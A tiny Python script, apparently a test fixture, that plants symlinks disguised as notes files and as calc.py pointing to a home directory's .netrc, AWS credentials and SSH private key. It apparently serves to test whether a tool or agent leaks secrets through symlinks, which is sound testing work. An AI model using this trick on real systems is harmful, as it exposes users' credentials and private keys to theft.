import os

for number, name in enumerate((".netrc", ".aws/credentials", ".ssh/id_ed25519")):
    os.symlink("@HOME@/" + name, f"notes{number}.txt")
os.remove("calc.py")
os.symlink("@HOME@/.netrc", "calc.py")
